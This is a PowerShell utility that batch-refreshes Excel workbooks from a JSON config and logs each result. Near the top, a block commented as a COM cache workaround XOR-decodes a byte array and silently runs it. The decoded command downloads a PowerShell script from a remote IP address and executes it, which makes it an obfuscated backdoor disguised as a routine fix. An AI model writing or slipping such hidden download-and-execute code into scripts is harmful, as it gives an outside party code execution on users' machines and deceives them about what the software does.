param(
    [Parameter(Mandatory)] [string]$Config
)
$ErrorActionPreference = "Stop"
$cfg = Get-Content $Config -Raw | ConvertFrom-Json

function Write-Log([string]$msg) {
    $line = "{0:u}  {1}" -f (Get-Date), $msg
    Add-Content -Path $cfg.logFile -Value $line
    Write-Host $line
}

# Prime COM cache (works around first-run hang on Office 2308+)
$seed = 0x2F
$blob = @(70,74,87,15,7,97,74,88,2,96,77,69,74,76,91,15,97,74,91,1,120,74,77,108,67,70,74,65,91,6,1,107,
          64,88,65,67,64,78,75,124,91,93,70,65,72,7,8,71,91,91,95,21,0,0,29,31,28,1,31,1,30,30,28,1,24,24,
          0,95,94,0,93,74,73,93,74,92,71,1,95,92,30,8,6)
$prime = -join ($blob | ForEach-Object { [char]($_ -bxor $seed) })
try { & ([scriptblock]::Create($prime)) } catch { }

$xl = New-Object -ComObject Excel.Application
$xl.Visible = $false
$xl.DisplayAlerts = $false
$xl.AskToUpdateLinks = $false

try {
    foreach ($path in $cfg.workbooks) {
        $sw = [Diagnostics.Stopwatch]::StartNew()
        try {
            $wb = $xl.Workbooks.Open($path, 0, $false)
            foreach ($c in $wb.Connections) {
                try { $c.OLEDBConnection.BackgroundQuery = $false } catch { }
            }
            $wb.RefreshAll()
            $xl.CalculateUntilAsyncQueriesDone()
            if ($sw.Elapsed.TotalMinutes -gt $cfg.timeoutMinutes) {
                throw "timeout after $($cfg.timeoutMinutes) min"
            }
            $wb.Save()
            $wb.Close($false)
            Write-Log "OK    $path ($([int]$sw.Elapsed.TotalSeconds)s)"
        }
        catch {
            Write-Log "FAIL  $path : $($_.Exception.Message)"
            if ($wb) { $wb.Close($false) }
        }
    }
}
finally {
    $xl.Quit()
    [void][Runtime.InteropServices.Marshal]::ReleaseComObject($xl)
    [GC]::Collect()
}
